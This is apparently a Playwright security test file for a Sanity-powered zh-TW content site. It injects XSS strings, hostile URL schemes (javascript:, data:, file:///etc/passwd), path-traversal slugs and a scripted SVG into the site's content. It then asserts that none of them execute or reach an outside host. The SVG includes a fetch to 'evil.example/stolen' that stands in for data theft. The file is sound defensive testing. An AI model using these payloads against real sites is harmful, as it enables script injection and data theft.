import type { Page } from '@playwright/test'
import type { SanityClient } from '@sanity/client'
import { articlePath, expect, test } from './support/test.ts'

const articleId = 'article-whether-chatgpt-is-open-source-is-controversial'
/** One page of each kind. */
const pages = [
  articlePath,
  '/zh-TW',
  '/zh-TW/academy',
  '/zh-TW/academy/research-analysis',
  '/zh-TW/authors',
  '/zh-TW/authors/lakeside',
  '/zh-TW/disclosure',
  '/zh-TW/nothing-here',
]

/** Ends every kind of text that it may stand in, and then tries to run something and to call a host outside. */
const attack =
  '\'"></script></title></textarea></style>--><script>window.ran=1</script><img src="https://evil.example/x" onerror="window.ran=2"><svg onload="window.ran=3">\u2028\u2029\u0000{{7*7}}${7*7}'

const hostileUrls = [
  'javascript:window.ran=4',
  'JaVaScRiPt:window.ran=4',
  '\u0001javascript:window.ran=4',
  'java\nscript:window.ran=4',
  'java\tscript:window.ran=4//https://www.btcc.com',
  'vbscript:msgbox(1)',
  'data:text/html,<script>window.ran=4</script>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'ht\ntps://evil.example',
  'https://www.btcc.com@evil.example/',
  'https://evil.example:99999/',
  '"><script>window.ran=4</script>',
]

type Stored = { _id: string; _rev: string; _type: string; [field: string]: unknown }

const machine = new Set([
  'slug',
  'style',
  'listItem',
  'lang',
  'kind',
  'platform',
  'key',
  'url',
  'page',
  'marks',
  'startsAt',
  'endsAt',
  'publishedAt',
  'updatedAt',
  'offerEndsAt',
])

/** Every text of a document made hostile; what is no text (types, keys, references, addresses, instants) stays. */
function poisoned(value: unknown, count: { texts: number }): unknown {
  if (typeof value === 'string') {
    count.texts += 1
    return `${value}${attack}`
  }
  if (Array.isArray(value)) return value.map((item) => poisoned(item, count))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([name, inner]) => [
      name,
      name.startsWith('_') || machine.has(name) ? inner : poisoned(inner, count),
    ]),
  )
}

/** Listens for everything that must not happen in this page. */
async function guard(page: Page, url: string): Promise<() => Promise<void>> {
  const outside = new Set<string>()
  page.on('request', (request) => {
    if (!request.url().startsWith(url) && !request.url().startsWith('data:')) outside.add(request.url())
  })
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') outside.delete(request.url()) // never left the browser
  })
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => outside.add(`dialog ${dialog.message()}`)))
  await page.addInitScript(() => {
    const refused = new Array<string>()
    Object.assign(window, { refused })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      refused.push(`${effectiveDirective} ${blockedURI}`),
    )
  })
  return async () => {
    await expect.poll(() => [...outside]).toEqual([])
    // Not even the policy had anything to refuse: nothing of it became markup.
    expect(
      await page.evaluate(() => ({ ran: Reflect.get(window, 'ran'), refused: Reflect.get(window, 'refused') })),
    ).toEqual({ ran: undefined, refused: [] })
  }
}

/** Every address that the page could send a reader, a browser or a search engine to. */
const addresses = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('[href], [src], [action], [formaction]')].flatMap((element) =>
      ['href', 'src', 'action', 'formaction'].map((name) => element.getAttribute(name) ?? '').filter(Boolean),
    ),
  )

async function expectWhole(page: Page, url: string, path: string): Promise<void> {
  const response = await page.goto(`${url}${path}`)
  expect(response?.status(), path).toBe(path === '/zh-TW/nothing-here' ? 404 : 200)
  await expect(page.getByRole('banner'), path).toBeVisible()
  await expect(page.getByRole('heading', { level: 1 }), path).toBeAttached()
  await expect(page.getByRole('contentinfo'), path).toBeVisible()
}

test('markup in every text of every document is words, on every kind of page', async ({ site, page }) => {
  const documents = await site.client.fetch<Stored[]>(
    '*[_type in ["article", "author", "category", "linkList", "banner", "slot", "siteSettings"]]',
  )
  expect(documents.length).toBeGreaterThan(30)
  const count = { texts: 0 }
  const transaction = site.client.transaction()
  for (const document of documents) {
    const { _id, _type, ...fields } = document
    transaction.createOrReplace({
      ...Object.fromEntries(
        Object.entries(fields).map(([name, value]) => [
          name,
          name.startsWith('_') || machine.has(name) ? value : poisoned(value, count),
        ]),
      ),
      _id,
      _type,
    })
  }
  await transaction.commit()
  expect(count.texts).toBeGreaterThan(500)

  const check = await guard(page, site.url)
  for (const path of pages) {
    await expectWhole(page, site.url, path)
    await check()
    expect(
      await page.locator('[onerror], [onload], script:not([type="application/ld+json"], #lakeside)').count(),
      path,
    ).toBe(0)
    expect(
      (await addresses(page)).filter((address) => /^(?!#).*(evil|javascript:)/i.test(address)),
      path,
    ).toEqual([])
    for (const data of await page.locator('script[type="application/ld+json"]').allTextContents())
      expect(() => JSON.parse(data), path).not.toThrow()
  }
  await page.goto(`${site.url}${articlePath}`)
  await expect(page.getByRole('heading', { level: 1 })).toContainText('<script>window.ran=1</script>')
  const structured = await page.locator('script[type="application/ld+json"]').first().textContent()
  expect(JSON.stringify(JSON.parse(structured ?? ''))).toContain('window.ran=1')
  const sitemap = await (await fetch(`${site.url}/sitemap.xml`)).text()
  expect(sitemap).toContain('<loc>')
  expect(sitemap).not.toContain('<script')
})

/** Puts every hostile address into every kind of link of the article. */
async function linkEverywhere(client: SanityClient): Promise<void> {
  const destinations = hostileUrls.map((url, index) => ({
    _key: `h${index}`,
    text: `惡意 ${index}`,
    destination: { _type: 'destination', url },
  }))
  await client
    .transaction()
    .create({
      _id: 'linkList-hostile',
      _type: 'linkList',
      title: '惡意連結',
      links: destinations.map((link) => ({ _type: 'link', ...link })),
    })
    .patch('banner-app-download', {
      set: {
        callsToAction: [
          ...destinations.map((call) => ({ _type: 'callToAction', ...call })),
          {
            _key: 'good',
            _type: 'callToAction',
            text: '好的按鈕',
            destination: { _type: 'destination', page: 'disclosure' },
          },
        ],
      },
    })
    .patch('banner-newcomer', {
      set: { callsToAction: destinations.map((call) => ({ _type: 'callToAction', ...call })) },
    })
    .patch(articleId, (patch) =>
      patch.insert('before', 'linkLists[0]', [{ _key: 'hostile', _type: 'reference', _ref: 'linkList-hostile' }]),
    )
    .patch(articleId, (patch) =>
      patch.insert('after', 'body[0]', [
        ...destinations.map((line) => ({ _type: 'readMore', ...line, _key: `r${line._key}` })),
        ...destinations.map(({ _key, text, destination }) => ({
          _type: 'block',
          _key: `b${_key}`,
          style: 'normal',
          markDefs: [{ _key: `m${_key}`, _type: 'inlineLink', destination }],
          children: [{ _key: `s${_key}`, _type: 'span', text: `句中 ${text}`, marks: [`m${_key}`] }],
        })),
      ]),
    )
    .commit()
}

test("an address that is not plainly one of the web's is words, in every kind of link", async ({ site, page }) => {
  await linkEverywhere(site.client)
  const check = await guard(page, site.url)
  await expectWhole(page, site.url, articlePath)
  const list = page.getByRole('region', { name: '惡意連結' })
  await expect(list.getByRole('listitem')).toHaveCount(hostileUrls.length)
  await expect(list.getByText('連結待補')).toHaveCount(hostileUrls.length)
  for (const index of hostileUrls.keys())
    await expect(page.getByText(`句中 惡意 ${index}`, { exact: true })).toBeVisible()
  await expect(page.getByRole('link', { name: /惡意/ })).toHaveCount(0)
  // The banner with a good call to action stands with that one; the one with none has lost its place.
  await expect(page.getByRole('link', { name: '好的按鈕' })).toHaveCount(3)
  await expect(page.getByRole('complementary', { name: /新手專享/ })).toHaveCount(0)
  const found = await addresses(page)
  expect(found.length).toBeGreaterThan(50)
  expect(found.filter((address) => /evil|^\s*(?!https?:|mailto:|tel:)[a-z]+:/i.test(address))).toEqual([])
  await check()
})

test("nor does the source lead there, or become the page's own address", async ({ site, page }) => {
  const check = await guard(page, site.url)
  for (const url of hostileUrls) {
    await site.client
      .patch(articleId)
      .set({ source: { _type: 'source', name: '惡意', url, isCanonical: true } })
      .commit()
    const html = await (await fetch(`${site.url}${articlePath}`)).text()
    expect(html, url).toContain(`<link rel="canonical" href="${site.url}${articlePath}"/>`)
    expect(html, url).toContain('GPT-4')
    expect(html, url).not.toMatch(/evil|window\.ran|isBasedOn/)
  }
  await expectWhole(page, site.url, articlePath)
  await check()
})

test('slugs that try to climb or to break out stay segments of our own paths', async ({ site, page }) => {
  const slugs = [
    '"><script>window.ran=5</script>',
    '..',
    '../../studio',
    '/evil.example',
    '\\evil.example',
    'a?b#c',
    '%2e%2e',
    '\u2028',
    '"><img src=x onerror=window.ran=5>',
  ]
  const transaction = site.client.transaction()
  slugs.forEach((current, index) =>
    transaction.create({
      _id: `category-hostile-${index}`,
      _type: 'category',
      title: `分類 ${index}`,
      slug: { _type: 'slug', current },
      order: 90 + index,
    }),
  )
  await transaction.commit()
  const check = await guard(page, site.url)
  for (const path of ['/zh-TW', '/zh-TW/academy', articlePath]) {
    await expectWhole(page, site.url, path)
    const links = await page
      .getByRole('link', { name: /^分類 \d/ })
      .evaluateAll((found: HTMLAnchorElement[]) => found.map((link) => link.href))
    expect(new Set(links).size, path).toBe(4) // the others make no address: they are no links
    for (const link of links) {
      expect(link).toMatch(new RegExp(`^${site.url}/zh-TW/`))
      expect((await fetch(link)).status, link).toBe(200)
    }
  }
  await check()
})

test('a slug that makes no address costs its own document only, and one with percent signs has its page', async ({
  site,
  page,
}) => {
  const {
    _rev,
    _createdAt,
    _updatedAt,
    source: _source,
    ...sample
  } = await site.client.fetch<Stored>('*[_id == $id][0]', { id: articleId })
  const slug = (current: string) => ({ _type: 'slug', current })
  const reference = (_ref: string) => ({ _key: _ref, _type: 'reference', _ref })
  const served = ['100%成長', 'a%2Fb', '%41']
  const transaction = site.client
    .transaction()
    .create({ _id: 'author-half', _type: 'author', name: '半個字的作者', slug: slug('abc\u0007') })
    .create({ _id: 'category-half', _type: 'category', title: '半個字的分類', slug: slug('abc\u0007'), order: 0 })
    .create({ _id: 'category-untitled', _type: 'category', slug: slug('untitled'), order: 99 })
    // The newest, so that it would lead the front page.
    .create({
      ...sample,
      _id: 'article-half',
      title: '半個字的文章',
      slug: slug('abc\u0007'),
      publishedAt: new Date().toISOString(),
    })
    .create({
      ...sample,
      _id: 'article-said',
      title: '會說 $RC("B:0") 的文章',
      slug: slug('said'),
      category: reference('category-untitled'),
      authors: [reference('author-half')],
      publishedAt: '2026-01-01T00:00:00Z',
    })
  served.forEach((current, index) =>
    transaction.create({ ...sample, _id: `article-percent-${index}`, title: `百分之 ${index}`, slug: slug(current) }),
  )
  await transaction
    .patch(articleId, (patch) => patch.set({ linkLists: [reference('linkList-half')] }))
    .create({
      _id: 'linkList-half',
      _type: 'linkList',
      title: '半個字',
      links: ['article', 'category', 'author'].map((kind) => ({
        _key: kind,
        _type: 'link',
        text: `到${kind}`,
        destination: { _type: 'destination', reference: { _type: 'reference', _ref: `${kind}-half`, _weak: true } },
      })),
    })
    .commit()

  for (const path of pages) await expectWhole(page, site.url, path)
  await page.goto(`${site.url}/zh-TW`)
  await expect(page.getByRole('heading', { level: 2, name: '會說' })).toBeVisible()
  await expect(page.getByText(/半個字的(?:文章|分類)/)).toHaveCount(0)
  await expectWhole(page, site.url, '/zh-TW/academy/untitled/said')
  await expect(page.getByText('半個字的作者').first()).toBeVisible()
  await page.goto(`${site.url}${articlePath}`)
  await expect(page.getByRole('region', { name: '半個字' }).getByText('連結待補')).toHaveCount(3)
  const category = articlePath.split('/').slice(0, -1).join('/')
  for (const [index, current] of served.entries()) {
    await expectWhole(page, site.url, `${category}/${encodeURIComponent(current)}`)
    await expect(page.getByRole('heading', { level: 1, name: `百分之 ${index}` })).toBeVisible()
    await expect(page.locator('link[rel=canonical]')).toHaveAttribute(
      'href',
      `${site.url}${category}/${encodeURIComponent(current)}`,
    )
  }
  const sitemap = await (await fetch(`${site.url}/sitemap.xml`)).text()
  for (const current of served) expect(sitemap).toContain(`${category}/${encodeURIComponent(current)}</loc>`)
  expect(sitemap).toContain('/academy/untitled/said</loc>')
  expect(sitemap).not.toMatch(/abc|半/)
})

test.describe('a picture that is a program', () => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 300 200" onload="window.ran=6">
    <script>window.ran=7; fetch('https://evil.example/stolen')</script>
    <style>@import url("https://evil.example/a.css"); rect { fill: url("https://evil.example/b.svg#x") }</style>
    <rect width="300" height="200" fill="#0a0"/><image href="https://evil.example/c.png" width="9" height="9"/>
    <a href="javascript:window.ran=8"><text x="200" y="50">x</text></a>
    <foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/d"/><meta http-equiv="refresh" content="0;url=https://evil.example/e"/></body></foreignObject>
  </svg>`

  test('does nothing when it is opened at its own address, and is pixels in a page', async ({ site, page }) => {
    const asset = await site.client.assets.upload('image', Buffer.from(svg), {
      contentType: 'image/svg+xml',
      filename: 'x.svg',
    })
    await site.client
      .patch(articleId)
      .set({ cover: { _type: 'picture', alt: '封面', asset: { _type: 'reference', _ref: asset._id } } })
      .commit()
    const check = await guard(page, site.url)

    const opened = await page.goto(asset.url)
    expect(opened?.headers()).toMatchObject({ 'content-type': 'image/svg+xml', 'x-content-type-options': 'nosniff' })
    expect(opened?.headers()['content-security-policy']).toContain('sandbox')
    await expect(page.locator('rect')).toBeAttached()
    expect(await page.evaluate(() => ({ ran: Reflect.get(window, 'ran'), origin: window.origin }))).toEqual({
      ran: undefined,
      origin: 'null',
    })
    await page.getByText('x', { exact: true }).click()
    expect(page.url()).toBe(asset.url)
    expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined()

    await expectWhole(page, site.url, articlePath)
    const cover = page.getByRole('img', { name: '封面' })
    await expect
      .poll(() => cover.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0))
      .toBe(true)
    const shown = await fetch(await cover.evaluate((image: HTMLImageElement) => image.currentSrc), {
      headers: { accept: 'image/webp' },
    })
    expect(shown.headers.get('content-type')).toBe('image/webp')
    await check()
  })

  test('nor does one as a file, whatever it calls itself', async ({ site, context }) => {
    const program = '<html xmlns="http://www.w3.org/1999/xhtml"><script>window.ran=9</script></html>'
    for (const [filename, contentType, text] of [
      ['x.svg', 'image/svg+xml', svg],
      ['x.html', 'text/html', program],
      ['x.xhtml', 'application/xhtml+xml', program],
      ['x.js', 'text/javascript', 'window.ran=9'],
    ] as const) {
      const page = await context.newPage()
      const asset = await site.client.assets.upload('file', Buffer.from(text), { contentType, filename })
      const answer = await fetch(asset.url)
      expect(answer.headers.get('content-type'), filename).toBe(
        filename === 'x.svg' ? 'image/svg+xml' : 'application/octet-stream',
      )
      expect(answer.headers.get('content-security-policy'), filename).toContain('sandbox')
      // Opened in place or saved to disk; either way there is no page of ours in which it ran.
      await page.goto(asset.url).catch((error: Error) => expect(error.message).toContain('Download is starting'))
      expect(await page.evaluate(() => Reflect.get(window, 'ran')), filename).toBeUndefined()
      // Not even the Studio, which may run scripts of this origin, can be made to take it for one.
      await page.goto(`${site.url}/studio`, { waitUntil: 'commit' })
      await page.locator('head').waitFor({ state: 'attached' })
      const taken = await page.evaluate(
        (src) =>
          new Promise<string>((resolve) => {
            const script = document.createElement('script')
            Object.assign(script, { src, onload: () => resolve('loaded'), onerror: () => resolve('refused') })
            document.head.append(script)
          }),
        asset.url,
      )
      expect(taken, filename).toBe('refused')
      await page.close()
    }
  })
})

test('absurdly long texts cost nobody but themselves: the page is whole and no wider than the window', async ({
  site,
  page,
}) => {
  // A run of closing brackets is left to the unit test of lib/text/title-clauses: Chromium itself breaks its lines for minutes.
  const long = ['a', '1', '1,,', '-', ' ', '\u200b', '湖'].map(
    (sign) => `長${sign.repeat(Math.ceil(20_000 / sign.length))}`,
  )
  await site.client
    .transaction()
    .patch('banner-app-download', {
      set: { tag: long[0], copy: long[1], 'callsToAction[0].text': long[3], points: long },
    })
    .patch('author-lakeside', { set: { name: long[0], bio: long[2] } })
    .create({
      _id: 'linkList-long',
      _type: 'linkList',
      title: long[0],
      links: long.map((text, index) => ({
        _key: `l${index}`,
        _type: 'link',
        text,
        destination: { _type: 'destination', url: `https://www.btcc.com/${'x'.repeat(20_000)}` },
      })),
    })
    .patch(articleId, { set: { title: long.join('，'), summary: long[1] } })
    .patch(articleId, (patch) =>
      patch.insert('before', 'linkLists[0]', [{ _key: 'long', _type: 'reference', _ref: 'linkList-long' }]),
    )
    .patch(articleId, (patch) =>
      patch.insert(
        'after',
        'body[0]',
        long.flatMap((text, index) =>
          ['h2', 'normal'].map((style) => ({
            _key: `${style}${index}`,
            _type: 'block',
            style,
            markDefs: [],
            children: [{ _key: 's', _type: 'span', text, marks: [] }],
          })),
        ),
      ),
    )
    .commit()
  await page.setViewportSize({ width: 360, height: 800 })
  for (const path of [articlePath, '/zh-TW', '/zh-TW/academy', '/zh-TW/authors']) {
    await expectWhole(page, site.url, path)
    expect(await page.evaluate(() => document.documentElement.scrollWidth), path).toBeLessThanOrEqual(360)
  }
})
